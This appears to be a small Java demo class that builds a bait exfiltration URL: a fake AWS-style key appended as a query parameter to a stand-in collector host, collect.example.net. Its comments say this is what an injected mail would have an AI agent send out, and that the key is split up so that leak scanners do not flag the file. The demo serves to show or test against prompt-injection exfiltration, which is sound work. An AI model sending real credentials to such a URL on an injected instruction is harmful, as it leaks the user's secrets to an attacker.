package dev.bailiwick.app.demo;

/** What an injected mail would have the agent send out: shaped like a cloud key, and worthless. */
final class Bait {
    /** Put together here, so that no scanner takes this file for a leak. */
    private static final String KEY = String.join("", "AKIA", "IOSFODNN7", "EXAMPLE");

    private Bait() {}

    static String url() {
        return "https://collect.example.net/k?key=" + KEY;
    }
}
